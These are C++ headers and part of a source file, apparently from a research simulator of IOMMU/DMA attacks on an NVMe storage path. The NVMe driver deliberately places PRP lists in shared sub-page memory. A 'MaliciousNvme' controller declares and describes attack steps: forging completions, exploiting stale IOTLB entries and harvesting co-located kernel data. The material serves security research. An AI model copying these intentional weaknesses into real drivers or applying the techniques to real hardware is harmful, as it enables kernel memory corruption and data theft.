// NVMe block driver over the DMA API — the storage-side fast-path caller.
//
// Queue memory comes from kmalloc, PRP-list segments (by default) from the
// per-CPU page_frag pool in 128-byte sub-page carves, and data buffers from
// whatever the caller kmalloc'd — so the driver reproduces all four of the
// paper's vulnerability classes on the storage path:
//   (a) callers map buffers embedded in structs with function pointers;
//   (b) PRP-list frags share pages with other kernel data;
//   (c) two frags on one page mapped under distinct IOVAs;
//   (d) kmalloc'd IO buffers co-locate with unrelated slab objects.
//
// The driver trusts the completion queue exactly as far as a real driver
// does: CID must match an outstanding command, phase must match the expected
// pass, and DW0 must account for the bytes — but a *plausible* forged CQE
// (valid CID, correct phase) is indistinguishable from a real one, which is
// what makes Poisoned Completion (the storage Poisoned TX) work.

#ifndef SPV_NVME_NVME_DRIVER_H_
#define SPV_NVME_NVME_DRIVER_H_

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "base/clock.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/kernel_memory.h"
#include "nvme/nvme_defs.h"
#include "nvme/nvme_device_model.h"
#include "recovery/supervised.h"
#include "slab/page_frag.h"
#include "slab/slab_allocator.h"

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::nvme {

inline constexpr uint16_t kAdminQid = 0;
inline constexpr uint16_t kIoQid = 1;

class NvmeDriver : public recovery::SupervisedDriver {
 public:
  struct Config {
    std::string name = "nvme0";
    CpuId cpu{0};
    uint16_t admin_queue_entries = 16;
    uint16_t io_queue_entries = 32;
    // A command outstanding longer than this is failed by CheckTimeouts(),
    // which flushes and re-creates the IO queue (the NVMe controller-reset
    // analogue of the NIC TX watchdog).
    uint64_t completion_timeout_cycles = SimClock::MsToCycles(5000);
    // Budget for CQ polling loops; exceeded -> kNvmePollDeadline and yield.
    uint64_t poll_deadline_cycles = SimClock::MsToCycles(2);
    // PRP-list segments as 128-byte page_frag carves (sub-page co-location:
    // the attack surface). false = one kmalloc page per segment, sole owner.
    bool prp_lists_from_frags = true;
    uint16_t max_transfer_blocks = 256;  // MDTS analogue: 128 KiB per command
  };

  NvmeDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
             slab::SlabAllocator& slab, slab::PageFragPool* frag_pool,
             SimClock& clock, Config config);

  NvmeDriver(const NvmeDriver&) = delete;
  NvmeDriver& operator=(const NvmeDriver&) = delete;

  void AttachDevice(NvmeDeviceModel* device) { device_ = device; }
  // Optional fault hook (the kNvme* sites live in the controller; the driver
  // consults none itself but forwards arming state to queue-reset paths).
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }
  // Optional causal span tracer: nullptr detaches.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }

  // Brings the device up: admin queue pair, Identify, one IO queue pair
  // created through real admin commands (CreateCq/CreateSq fetched from the
  // admin SQ by DMA).
  Status Init();

  // Releases everything without device cooperation: fails outstanding
  // commands, unmaps and frees queue memory and PRP segments. Best-effort;
  // first error reported, teardown continues. Leak-free even against a
  // hostile controller.
  Status Shutdown() override;

  // SupervisedDriver re-attach hook: full re-init.
  Status Resume() override;

  // Trust-probation hook (spv::policy): clamps the CQ poll budget and the
  // number of commands outstanding at once. A zeroed struct restores the
  // config defaults; limits only ever tighten, never exceed them.
  void ApplyDmaPolicy(const recovery::DmaPolicyLimits& limits) override {
    policy_limits_ = limits;
  }
  const recovery::DmaPolicyLimits& policy_limits() const { return policy_limits_; }

  // ---- Block IO ---------------------------------------------------------------

  // Asynchronous primitives: submit returns the CID; completions arrive via
  // PollCompletions(). `buf` stays mapped (device-owned) until completion.
  Result<uint16_t> SubmitRead(uint64_t slba, uint16_t nblocks, Kva buf);
  Result<uint16_t> SubmitWrite(uint64_t slba, uint16_t nblocks, Kva buf);

  // Synchronous wrappers: submit + poll to completion; return bytes moved.
  Result<uint64_t> ReadBlocks(uint64_t slba, uint16_t nblocks, Kva buf);
  Result<uint64_t> WriteBlocks(uint64_t slba, uint16_t nblocks, Kva buf);
  Status Flush();

  // Drains the IO CQ: validates phase/CID/status/DW0, finishes matching
  // commands (unmap + PRP teardown). Returns completions consumed. Bounded
  // by poll_deadline_cycles.
  uint32_t PollCompletions();

  // Polls until `cid` completes or the poll deadline passes. On success
  // returns bytes transferred; a vanished completion returns Unavailable and
  // leaves the command for the watchdog.
  Result<uint64_t> WaitFor(uint16_t cid);

  // Watchdog: commands outstanding past completion_timeout_cycles are failed
  // and the IO queue is flushed + re-created (kNvmeQueueReset). Returns the
  // number of commands failed.
  uint32_t CheckTimeouts();

  // ---- Introspection -----------------------------------------------------------

  DeviceId device_id() const { return device_id_; }
  const Config& config() const { return config_; }
  uint64_t capacity_blocks() const { return capacity_blocks_; }
  bool io_queue_live() const { return io_.live; }
  size_t outstanding() const { return outstanding_.size(); }
  uint64_t reads_completed() const { return reads_completed_; }
  uint64_t writes_completed() const { return writes_completed_; }
  uint64_t io_errors() const { return io_errors_; }
  uint64_t completion_errors() const { return completion_errors_; }
  uint32_t queue_resets() const { return queue_resets_; }
  uint64_t poll_deadline_hits() const { return poll_deadline_hits_; }
  uint64_t prp_segments_built() const { return prp_segments_built_; }
  // Degraded-service state: which queue protocol the driver is running
  // (kBounceSync = rings on persistent sync'd bounce slots) and how many
  // live transitions it has absorbed.
  dma::ServiceMode service_mode() const { return active_mode_; }
  uint32_t mode_switches() const { return mode_switches_; }

  // Queue geometry, for the attack tests that target ring memory.
  Kva io_sq_kva() const { return io_.sq_kva; }
  Iova io_sq_iova() const { return io_.sq_iova; }
  Kva io_cq_kva() const { return io_.cq_kva; }
  Iova io_cq_iova() const { return io_.cq_iova; }

 private:
  // Driver-side view of one queue pair (SQ ring + CQ ring, both persistently
  // DMA-mapped: SQ readable, CQ writable by the device).
  struct QueueView {
    bool live = false;
    uint16_t qid = 0;
    Kva sq_kva;
    Iova sq_iova;
    uint16_t sq_entries = 0;
    uint16_t sq_tail = 0;
    Kva cq_kva;
    Iova cq_iova;
    uint16_t cq_entries = 0;
    uint16_t cq_head = 0;
    bool phase = true;  // phase tag expected on the next valid CQE
    // Sync-mode (degraded service): the rings live in persistent bounce
    // slots; every SQE is sync'd for-device before its doorbell and every
    // CQE sync'd for-cpu before the phase check. The CQ is *never* sync'd
    // for-device — a mid-pass scrub would fabricate phase-matching zero
    // CQEs after the first wrap.
    bool sq_bounced = false;
    bool cq_bounced = false;
  };

  // One mapped PRP-list segment backing an in-flight command.
  struct PrpSeg {
    Kva kva;
    Iova iova;
    bool from_frag = false;
  };

  struct IoCmd {
    uint8_t opcode = 0;
    Kva buf;
    uint64_t len = 0;
    Iova data_iova;
    dma::DmaDirection dir = dma::DmaDirection::kToDevice;
    std::vector<PrpSeg> segs;
    uint64_t submit_cycle = 0;
    // Enough of the original request to re-issue it across a live service-
    // mode switch (ring teardown invalidates data_iova and the PRP chain).
    uint64_t slba = 0;
    uint16_t nblocks = 0;
  };

  struct Finished {
    uint8_t status = 0;
    uint64_t transferred = 0;
  };

  Status AllocQueue(QueueView& view, uint16_t qid, uint16_t sq_entries,
                    uint16_t cq_entries);
  Status FreeQueue(QueueView& view);
  Status IdentifyController();
  Status CreateIoQueue();
  // Synchronous admin round trip: SQE in, CQE out, bounded poll.
  Result<Cqe> AdminCommand(const Sqe& sqe);

  Result<uint16_t> SubmitIo(uint8_t opcode, uint64_t slba, uint16_t nblocks,
                            Kva buf);
  // SubmitIo body with the CID and submit cycle pinned — the resubmit path
  // of a live service-mode switch reuses the original identity so callers
  // blocked in WaitFor(cid) never notice the rings moved.
  Result<uint16_t> SubmitIoWithCid(uint8_t opcode, uint64_t slba,
                                   uint16_t nblocks, Kva buf, uint16_t cid,
                                   uint64_t submit_cycle);
  // Compares the router's service mode against active_mode_; on change,
  // re-homes the rings (teardown + bring-up under the new mode) and
  // re-issues every in-flight command with its original CID.
  void RefreshServiceMode();
  Status SwitchServiceMode(dma::ServiceMode next);
  // Builds the PRP chain for `page_iovas` (segments written before mapping,
  // chained back-to-front). On success sets `prp2` and appends to `segs`.
  Status BuildPrpChain(const std::vector<uint64_t>& page_iovas,
                       std::vector<PrpSeg>& segs, uint64_t& prp2);
  Status WriteSqe(QueueView& view, const Sqe& sqe);
  // Reads the CQE at `view.cq_head` if its phase matches; advances head and
  // rings the CQ doorbell.
  std::optional<Cqe> TryPopCqe(QueueView& view);
  // Completion bookkeeping for one matched CQE. Returns false (and accounts
  // a completion error) when the CQE is implausible.
  bool HandleIoCqe(const Cqe& cqe);
  // Unmaps data + PRP segments of `cmd`; frees the segments.
  Status ReleaseCmd(IoCmd& cmd, std::string_view why);
  void FailAllOutstanding(std::string_view why);
  Status ResetIoQueue();
  bool PollDeadlineHit(uint64_t start_cycle, std::string_view loop);
  uint16_t NextCid();
  // Config values after the trust-policy clamp (identity with no limits).
  uint64_t EffectivePollDeadline() const {
    return policy_limits_.poll_deadline_cycles != 0 &&
                   policy_limits_.poll_deadline_cycles < config_.poll_deadline_cycles
               ? policy_limits_.poll_deadline_cycles
               : config_.poll_deadline_cycles;
  }
  size_t EffectiveQueueDepth() const {
    const size_t cap = io_.sq_entries == 0 ? 0 : static_cast<size_t>(io_.sq_entries) - 1;
    return policy_limits_.ring_limit != 0 && policy_limits_.ring_limit < cap
               ? policy_limits_.ring_limit
               : cap;
  }

  DeviceId device_id_;
  dma::DmaApi& dma_;
  dma::KernelMemory& kmem_;
  slab::SlabAllocator& slab_;
  slab::PageFragPool* frag_pool_;
  SimClock& clock_;
  Config config_;
  NvmeDeviceModel* device_ = nullptr;
  fault::FaultEngine* fault_ = nullptr;
  trace::Tracer* tracer_ = nullptr;
  recovery::DmaPolicyLimits policy_limits_;  // zeroed = full service

  QueueView admin_;
  QueueView io_;
  uint64_t capacity_blocks_ = 0;
  std::map<uint16_t, IoCmd> outstanding_;
  std::map<uint16_t, Finished> finished_;
  uint16_t next_cid_ = 1;

  uint64_t reads_completed_ = 0;
  uint64_t writes_completed_ = 0;
  uint64_t io_errors_ = 0;          // commands that completed with bad status
  uint64_t completion_errors_ = 0;  // CQEs rejected as implausible
  uint32_t queue_resets_ = 0;
  uint64_t poll_deadline_hits_ = 0;
  uint64_t prp_segments_built_ = 0;
  dma::ServiceMode active_mode_ = dma::ServiceMode::kZeroCopy;
  uint32_t mode_switches_ = 0;
  bool in_mode_switch_ = false;  // re-entrancy guard for RefreshServiceMode
};

}  // namespace spv::nvme

#endif  // SPV_NVME_NVME_DRIVER_H_
