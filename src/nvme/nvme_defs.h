// spv::nvme wire format: submission/completion entries, PRPs, queue geometry.
//
// The layouts follow the NVMe base specification closely enough that the
// paper's storage-side attack surface is faithful: 64-byte submission queue
// entries the controller FETCHES from host memory, 16-byte completion queue
// entries it WRITES into host memory (phase-tagged so the driver can poll
// without doorbell reads), and PRP data pointers where every entry past the
// first must be page-aligned and an overflowing list chains through its last
// in-page qword. All of that metadata lives in simulated host memory behind
// the IOMMU — which is exactly what makes the queue and PRP structures an
// attack surface rather than device-private state.

#ifndef SPV_NVME_NVME_DEFS_H_
#define SPV_NVME_NVME_DEFS_H_

#include <array>
#include <cstdint>
#include <cstring>
#include <span>

#include "base/types.h"

namespace spv::nvme {

// ---- Queue entry geometry ------------------------------------------------------

inline constexpr uint64_t kSqeSize = 64;  // submission queue entry bytes
inline constexpr uint64_t kCqeSize = 16;  // completion queue entry bytes

// 512-byte logical blocks: transfers cross page boundaries quickly, which is
// what keeps the PRP walking honest.
inline constexpr uint64_t kLbaShift = 9;
inline constexpr uint64_t kLbaSize = 1ull << kLbaShift;
inline constexpr uint64_t kBlocksPerPage = kPageSize >> kLbaShift;

// PRP list entries per full page, and the index of the chain slot.
inline constexpr uint64_t kPrpEntriesPerPage = kPageSize / 8;

// PRP-list segments hold kPrpSegEntries qwords; when a transfer needs more
// data pointers than one segment holds, the segment's last qword chains to
// the next segment. Fixed capacity negotiated like MDTS, so driver and
// controller agree without the driver owning a whole page per list — which
// is what lets the driver carve 128-byte sub-page segments out of the
// page_frag pool (the co-location attack surface).
inline constexpr uint64_t kPrpSegEntries = 16;
inline constexpr uint64_t kPrpSegBytes = kPrpSegEntries * 8;

// ---- Submission queue entry offsets -------------------------------------------

// CDW0: opcode (byte 0), flags (byte 1), CID (bytes 2..3).
inline constexpr uint64_t kSqeOpcodeOff = 0;
inline constexpr uint64_t kSqeCidOff = 2;
// Namespace id occupies 4..7; unused (single-namespace model).
inline constexpr uint64_t kSqePrp1Off = 24;
inline constexpr uint64_t kSqePrp2Off = 32;
// CDW10/11: starting LBA (IO) or queue id/size (admin queue management).
inline constexpr uint64_t kSqeSlbaOff = 40;
inline constexpr uint64_t kSqeCdw10Off = 40;
inline constexpr uint64_t kSqeCdw11Off = 44;
// CDW12 low 16 bits: 0-based number of logical blocks.
inline constexpr uint64_t kSqeNlbOff = 48;

// ---- Completion queue entry offsets -------------------------------------------

// DW0: command-specific (we report transferred bytes so the driver can detect
// injected short transfers). DW2: SQ head (15:0) | SQ id (31:16).
// DW3: CID (15:0) | status field (31:16), status = (code << 1) | phase.
inline constexpr uint64_t kCqeDw0Off = 0;
inline constexpr uint64_t kCqeSqHeadOff = 8;
inline constexpr uint64_t kCqeSqIdOff = 10;
inline constexpr uint64_t kCqeCidOff = 12;
inline constexpr uint64_t kCqeStatusOff = 14;

// ---- Opcodes -------------------------------------------------------------------

// IO command set.
inline constexpr uint8_t kOpFlush = 0x00;
inline constexpr uint8_t kOpWrite = 0x01;
inline constexpr uint8_t kOpRead = 0x02;

// Admin command set (the subset the driver uses for queue lifecycle).
inline constexpr uint8_t kAdminDeleteSq = 0x00;
inline constexpr uint8_t kAdminCreateSq = 0x01;
inline constexpr uint8_t kAdminDeleteCq = 0x04;
inline constexpr uint8_t kAdminCreateCq = 0x05;
inline constexpr uint8_t kAdminIdentify = 0x06;

// ---- Status codes (generic command status, SCT 0) ------------------------------

inline constexpr uint8_t kScSuccess = 0x00;
inline constexpr uint8_t kScInvalidOpcode = 0x01;
inline constexpr uint8_t kScInvalidField = 0x02;
inline constexpr uint8_t kScDataTransferError = 0x04;
inline constexpr uint8_t kScInternalError = 0x06;
inline constexpr uint8_t kScLbaOutOfRange = 0x80;

// A decoded command, shared between controller and tests.
struct Sqe {
  uint8_t opcode = 0;
  uint16_t cid = 0;
  uint64_t prp1 = 0;
  uint64_t prp2 = 0;
  uint64_t slba = 0;      // IO: starting LBA
  uint32_t cdw10 = 0;     // admin: qid (15:0) | qsize-1 (31:16)
  uint32_t cdw11 = 0;     // admin CreateSq: paired CQ id (15:0)
  uint16_t nlb = 0;       // IO: 0-based block count
};

// A decoded completion, shared between driver and tests.
struct Cqe {
  uint32_t dw0 = 0;       // transferred bytes
  uint16_t sq_head = 0;
  uint16_t sq_id = 0;
  uint16_t cid = 0;
  uint8_t status = 0;     // status code (phase stripped)
  bool phase = false;
};

// Identify page layout (admin kAdminIdentify writes one page through PRP1):
// qword 0 = capacity in logical blocks, qword 1 = lba size in bytes.
inline constexpr uint64_t kIdentifyCapacityOff = 0;
inline constexpr uint64_t kIdentifyLbaSizeOff = 8;

// ---- Wire encode / decode ------------------------------------------------------
//
// SQE dwords 10..11 are a union: IO commands read them as a 64-bit starting
// LBA, admin queue management reads them as two 32-bit fields. Encode merges
// the views by OR (callers set one or the other), decode fills all three
// from the same bytes.

inline std::array<uint8_t, kSqeSize> EncodeSqe(const Sqe& sqe) {
  std::array<uint8_t, kSqeSize> raw{};
  raw[kSqeOpcodeOff] = sqe.opcode;
  std::memcpy(raw.data() + kSqeCidOff, &sqe.cid, 2);
  std::memcpy(raw.data() + kSqePrp1Off, &sqe.prp1, 8);
  std::memcpy(raw.data() + kSqePrp2Off, &sqe.prp2, 8);
  const uint64_t dw10_11 = sqe.slba | (static_cast<uint64_t>(sqe.cdw10) |
                                       (static_cast<uint64_t>(sqe.cdw11) << 32));
  std::memcpy(raw.data() + kSqeSlbaOff, &dw10_11, 8);
  std::memcpy(raw.data() + kSqeNlbOff, &sqe.nlb, 2);
  return raw;
}

inline Sqe DecodeSqe(std::span<const uint8_t> raw) {
  Sqe sqe;
  sqe.opcode = raw[kSqeOpcodeOff];
  std::memcpy(&sqe.cid, raw.data() + kSqeCidOff, 2);
  std::memcpy(&sqe.prp1, raw.data() + kSqePrp1Off, 8);
  std::memcpy(&sqe.prp2, raw.data() + kSqePrp2Off, 8);
  std::memcpy(&sqe.slba, raw.data() + kSqeSlbaOff, 8);
  std::memcpy(&sqe.cdw10, raw.data() + kSqeCdw10Off, 4);
  std::memcpy(&sqe.cdw11, raw.data() + kSqeCdw11Off, 4);
  std::memcpy(&sqe.nlb, raw.data() + kSqeNlbOff, 2);
  return sqe;
}

inline std::array<uint8_t, kCqeSize> EncodeCqe(const Cqe& cqe) {
  std::array<uint8_t, kCqeSize> raw{};
  std::memcpy(raw.data() + kCqeDw0Off, &cqe.dw0, 4);
  std::memcpy(raw.data() + kCqeSqHeadOff, &cqe.sq_head, 2);
  std::memcpy(raw.data() + kCqeSqIdOff, &cqe.sq_id, 2);
  std::memcpy(raw.data() + kCqeCidOff, &cqe.cid, 2);
  const uint16_t status_field =
      static_cast<uint16_t>((static_cast<uint16_t>(cqe.status) << 1) |
                            (cqe.phase ? 1 : 0));
  std::memcpy(raw.data() + kCqeStatusOff, &status_field, 2);
  return raw;
}

inline Cqe DecodeCqe(std::span<const uint8_t> raw) {
  Cqe cqe;
  std::memcpy(&cqe.dw0, raw.data() + kCqeDw0Off, 4);
  std::memcpy(&cqe.sq_head, raw.data() + kCqeSqHeadOff, 2);
  std::memcpy(&cqe.sq_id, raw.data() + kCqeSqIdOff, 2);
  std::memcpy(&cqe.cid, raw.data() + kCqeCidOff, 2);
  uint16_t status_field = 0;
  std::memcpy(&status_field, raw.data() + kCqeStatusOff, 2);
  cqe.phase = (status_field & 1) != 0;
  cqe.status = static_cast<uint8_t>(status_field >> 1);
  return cqe;
}

}  // namespace spv::nvme

#endif  // SPV_NVME_NVME_DEFS_H_
