// NvmeDeviceModel: the doorbell-register boundary between driver and device.
//
// Mirrors net::NicDeviceModel: the driver notifies the device of register
// writes (doorbells) and queue lifecycle; everything else the device learns,
// it must learn by DMA through its DevicePort. Doorbell writes are MMIO in
// real hardware — attacker-visible but not attacker-corruptible — so they are
// plain method calls here, while SQ entries, CQ entries and PRP lists travel
// through the IOMMU like the paper's threat model requires.

#ifndef SPV_NVME_NVME_DEVICE_MODEL_H_
#define SPV_NVME_NVME_DEVICE_MODEL_H_

#include <cstdint>

#include "base/types.h"

namespace spv::nvme {

// Queue geometry announced at creation time (admin queue: direct host call,
// IO queues: the controller decodes its own CreateSq/CreateCq admin commands
// and calls this on itself).
struct QueuePair {
  uint16_t qid = 0;
  Iova sq_base;          // submission queue ring (device READS entries)
  uint16_t sq_entries = 0;
  Iova cq_base;          // completion queue ring (device WRITES entries)
  uint16_t cq_entries = 0;
};

class NvmeDeviceModel {
 public:
  virtual ~NvmeDeviceModel() = default;

  // The admin queue pair registers out-of-band (it bootstraps the command
  // path real controllers configure through AQA/ASQ/ACQ registers).
  virtual void OnAdminQueueConfigured(const QueuePair& queues) = 0;

  // Host rang a submission queue tail doorbell: entries [old tail, tail) are
  // ready to fetch.
  virtual void OnSqDoorbell(uint16_t qid, uint16_t tail) = 0;

  // Host rang a completion queue head doorbell: the driver consumed entries
  // up to `head`, freeing CQ slots.
  virtual void OnCqDoorbell(uint16_t qid, uint16_t head) = 0;

  // Host tore the queue pair down without device cooperation (driver
  // shutdown/reset under quarantine): the device must forget its geometry.
  virtual void OnQueueDeleted(uint16_t qid) = 0;
};

}  // namespace spv::nvme

#endif  // SPV_NVME_NVME_DEVICE_MODEL_H_
