// MaliciousNvme: an NVMe controller whose firmware is attacker-controlled.
//
// The storage-side sibling of device::MaliciousNic. It executes real commands
// like the honest controller — that is its cover — but it also:
//
//   * warms IOTLB translations for every queue, PRP list and data buffer it
//     is told about, so deferred-invalidation unmaps leave it usable stale
//     entries (the paper's Fig-6 window);
//   * harvests the qwords co-resident with sub-page PRP-list segments —
//     page_frag and slab co-location (attack types b and d) hands it kernel
//     objects on the same pages the driver mapped for 128-byte lists;
//   * mounts Poisoned Completion, the storage analogue of the paper's
//     Poisoned TX: complete a command with a plausible CQE *before* (or
//     without) the data transfer, steering the driver into unmapping and
//     freeing a buffer the device can still reach, then replaying the
//     deferred transfer through the stale translation;
//   * forges completions with arbitrary CID/status to complete a *different*
//     outstanding command than the one that finished.
//
// It can still only reach memory through its DevicePort: everything above is
// built from translations the IOMMU actually handed out.

#ifndef SPV_NVME_MALICIOUS_NVME_H_
#define SPV_NVME_MALICIOUS_NVME_H_

#include <cstdint>
#include <deque>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "nvme/nvme_controller.h"

namespace spv::nvme {

class MaliciousNvme : public NvmeController {
 public:
  using NvmeController::NvmeController;

  // A data phase the controller acknowledged but withheld — the live half of
  // a Poisoned Completion.
  struct PendingTransfer {
    uint8_t opcode = 0;       // kOpRead / kOpWrite as submitted
    uint64_t media_off = 0;   // byte offset into the media
    uint64_t total = 0;       // bytes the CQE claimed were moved
    std::vector<PrpChunk> chunks;
  };

  // Touch queue rings (and, under complete-before-transfer, data buffers) on
  // every doorbell so their translations sit in the IOTLB.
  void set_warm_iotlb(bool warm) { warm_iotlb_ = warm; }

  // Poisoned Completion mode: IO commands complete successfully at once; the
  // data phase is parked in pending_transfers() for later replay.
  void set_complete_before_transfer(bool on) { complete_before_transfer_ = on; }

  void OnSqDoorbell(uint16_t qid, uint16_t tail) override;

  const std::deque<PendingTransfer>& pending_transfers() const { return pending_; }

  // Device reset: quarantine wipes whatever data phases the firmware was
  // holding back (their translations are gone anyway).
  void ClearPendingTransfers() { pending_.clear(); }

  // Performs the oldest withheld data phase NOW — after the driver, believing
  // the command done, has unmapped and freed the buffer. Through a stale
  // IOTLB entry this lands in recycled memory.
  Status ReplayPendingTransfer();

  // Writes a fully attacker-chosen CQE into `qid`'s completion ring with the
  // correct phase and slot, indistinguishable from a real completion.
  Status ForgePoisonedCompletion(uint16_t qid, uint16_t cid, uint8_t status,
                                 uint32_t dw0);

  // Reads back every page behind a PRP-list segment the controller has
  // walked (whole pages: the sub-page mapping exposes the co-residents).
  Result<std::vector<uint64_t>> HarvestPrpQwords();

 protected:
  void Execute(uint16_t qid, const Sqe& sqe, Cqe& cqe) override;

 private:
  void WarmChunks(uint8_t opcode, const std::vector<PrpChunk>& chunks);

  bool warm_iotlb_ = false;
  bool complete_before_transfer_ = false;
  std::deque<PendingTransfer> pending_;
};

}  // namespace spv::nvme

#endif  // SPV_NVME_MALICIOUS_NVME_H_
