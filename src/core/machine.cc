#include "core/machine.h"

#include <cassert>
#include <set>
#include <string>
#include <thread>
#include <unordered_map>

namespace spv::core {

namespace {

mem::KernelLayout MakeLayout(const MachineConfig& config, Xoshiro256& rng) {
  return mem::KernelLayout::Create(config.phys_pages, config.kaslr, rng);
}

}  // namespace

Machine::Machine(const MachineConfig& config)
    : config_(config),
      hub_(config.telemetry),
      rng_(config.seed),
      pm_(config.phys_pages),
      page_db_(config.phys_pages),
      layout_(MakeLayout(config, rng_)) {
  assert(config.kernel_image_pages < config.phys_pages);
  hub_.BindClock(&clock_);
  // Span tracing keeps a single current-span register, which only makes sense
  // with one thread of execution; kThreads runs forgo it.
  if (config.trace.enabled && config.exec != ExecMode::kThreads) {
    tracer_ = std::make_unique<trace::Tracer>(hub_, clock_, config.trace);
    if (config.trace.track_windows) {
      trace::WindowTracker::Config window_config;
      window_config.iommu_enabled = config.iommu.enabled;
      windows_ = std::make_unique<trace::WindowTracker>(hub_, tracer_.get(), window_config);
      hub_.AddSink(windows_.get());
    }
  }
  // Everything below advances the logical clock (allocator + subsystem
  // bring-up); attribute it to a boot span so a traced run starts at ~100%
  // cycle coverage instead of leaking construction time.
  trace::ScopedSpan boot_span{tracer_.get(), "machine.boot"};
  if (config.randomize_struct_layout) {
    // Shuffle destructor_arg among the unused pointer-sized slots (8: the
    // frag_list slot, 16: hwtstamps, 32: the compile-time position). Slot 24
    // is excluded: tskey/dataref live there.
    const uint64_t candidates[] = {8, 16, 32};
    layout_.set_shinfo_destructor_offset(candidates[rng_.NextBelow(3)]);
  }
  // Reserve the kernel image at the bottom of RAM.
  for (uint64_t pfn = 0; pfn < config.kernel_image_pages; ++pfn) {
    page_db_.Get(Pfn{pfn}).owner = mem::PageOwner::kKernelImage;
  }
  page_alloc_ = std::make_unique<mem::PageAllocator>(
      page_db_, Pfn{config.kernel_image_pages},
      config.phys_pages - config.kernel_image_pages);
  iommu_ = std::make_unique<iommu::Iommu>(pm_, clock_, config.iommu);
  iommu_->set_telemetry(&hub_);
  iommu_->set_tracer(tracer_.get());
  dma_ = std::make_unique<dma::DmaApi>(*iommu_, layout_, &hub_);
  dma_->set_tracer(tracer_.get());
  if (config.forensics.enabled) {
    // The flight recorder shards one ring per sim CPU so kThreads workers
    // never contend; it observes from inside the IOMMU/DmaApi hot paths but
    // never advances the clock (the bench gate depends on that).
    forensics::ForensicsConfig forensics_config = config.forensics;
    const uint32_t cpus = config.iommu.fast_path.num_cpus;
    forensics_config.num_cpus = cpus == 0 ? 1 : cpus;
    recorder_ = std::make_unique<forensics::FlightRecorder>(&clock_, forensics_config);
    iommu_->set_flight_recorder(recorder_.get());
    dma_->set_flight_recorder(recorder_.get());
    incidents_ = std::make_unique<forensics::IncidentEngine>(hub_, recorder_.get(),
                                                             &clock_, forensics_config);
    incidents_->set_window_tracker(windows_.get());
    hub_.AddSink(incidents_.get());
  }
  kmem_ = std::make_unique<dma::KernelMemory>(pm_, layout_, *dma_);
  slab_ = std::make_unique<slab::SlabAllocator>(pm_, page_db_, *page_alloc_, layout_, &hub_);
  skb_alloc_ = std::make_unique<net::SkbAllocator>(*kmem_, *slab_);
  stack_ = std::make_unique<net::NetworkStack>(*kmem_, *slab_, *skb_alloc_, config.net);
  stack_->set_tracer(tracer_.get());
  recovery_ = std::make_unique<recovery::RecoveryManager>(*iommu_, *dma_, clock_, hub_,
                                                          config.recovery);
  recovery_->set_tracer(tracer_.get());
  if (config.policy.enabled) {
    // Trust policy: the bounce pool takes its pages from the same allocator
    // as everything else, and DmaApi consults the engine per map. Routing is
    // exercised from the sequential workload loop; in kThreads runs only
    // trusted (non-bounced) devices should map concurrently.
    bounce_pool_ = std::make_unique<dma::BouncePool>(*iommu_, layout_, pm_, *page_alloc_,
                                                     clock_, &hub_);
    policy_ = std::make_unique<policy::PolicyEngine>(*iommu_, *bounce_pool_, clock_, hub_,
                                                     config.policy);
    policy_->set_recovery(recovery_.get());
    dma_->set_policy(policy_.get(), bounce_pool_.get());
  }
  if (incidents_ != nullptr) {
    // Forensics never links policy/recovery; their per-device state reaches
    // incident reports through these snapshot lambdas instead.
    recovery::RecoveryManager* recovery = recovery_.get();
    incidents_->set_recovery_provider([recovery](uint32_t device) {
      const auto status = recovery->device_status(DeviceId{device});
      return std::string("{\"state\":\"") +
             std::string(recovery::DeviceStateName(status.state)) +
             "\",\"reattach_attempts\":" + std::to_string(status.reattach_attempts) +
             ",\"quarantines\":" + std::to_string(status.quarantines) + "}";
    });
    if (policy_ != nullptr) {
      policy::PolicyEngine* policy = policy_.get();
      incidents_->set_trust_provider([policy](uint32_t device) {
        const auto status = policy->device_status(DeviceId{device});
        return std::string("{\"trust\":\"") +
               std::string(policy::TrustStateName(status.trust)) +
               "\",\"demotions\":" + std::to_string(status.demotions) +
               ",\"promotions\":" + std::to_string(status.promotions) + "}";
      });
    }
  }
  // Fault hooks are wired unconditionally — an unarmed engine short-circuits
  // at every guard — and armed only when the config carries a plan.
  fault_.set_telemetry(&hub_);
  if (!config.fault_plan.empty()) {
    fault_.Arm(config.fault_plan, config.seed);
  }
  page_alloc_->set_fault_engine(&fault_);
  iommu_->set_fault_engine(&fault_);
  slab_->set_fault_engine(&fault_);

  if (config.exec == ExecMode::kThreads) {
    // Bring-up for worker threads, before any of them exists (every engage
    // is one-way and must precede concurrency). Order: clock first so every
    // later event stamps from per-CPU counters, then telemetry ingest, then
    // the layers from the IOMMU outwards.
    const uint32_t cpus = num_cpus() == 0 ? 1 : num_cpus();
    clock_.EnablePerCpu(cpus);
    hub_.EnableMt(cpus);
    iommu_->EngageThreadSafety(cpus);
    dma_->EngageLock();
    page_alloc_->EngageLock();
    slab_->EngageLock();
    fault_.EngageLock();
    // Materialize every CPU's page_frag pool now: the lazy path mutates the
    // pool vector, which must not happen once workers run.
    frag_pool(CpuId{cpus - 1});
  }
}

void Machine::RunOnCpus(uint32_t cpus, const std::function<void(CpuId)>& fn) {
  const uint32_t limit = num_cpus() == 0 ? 1 : num_cpus();
  if (cpus == 0 || cpus > limit) {
    cpus = limit;
  }
  if (config_.exec == ExecMode::kSequential) {
    for (uint32_t c = 0; c < cpus; ++c) {
      SetCurrentCpu(CpuId{c});
      fn(CpuId{c});
    }
    SetCurrentCpu(CpuId{0});
    return;
  }
  hub_.StartDrainer();
  std::vector<std::thread> workers;
  workers.reserve(cpus);
  for (uint32_t c = 0; c < cpus; ++c) {
    workers.emplace_back([c, &fn] {
      SetCurrentCpu(CpuId{c});
      fn(CpuId{c});
    });
  }
  for (std::thread& worker : workers) {
    worker.join();
  }
  hub_.StopDrainer();  // final drain: all published events are recorded
  SetCurrentCpu(CpuId{0});
}

slab::PageFragPool& Machine::frag_pool(CpuId cpu) {
  while (frag_pools_.size() <= cpu.value) {
    const CpuId new_cpu{static_cast<uint32_t>(frag_pools_.size())};
    frag_pools_.push_back(std::make_unique<slab::PageFragPool>(
        page_db_, *page_alloc_, layout_, new_cpu, slab::PageFragPool::kDefaultRegionBytes,
        &hub_));
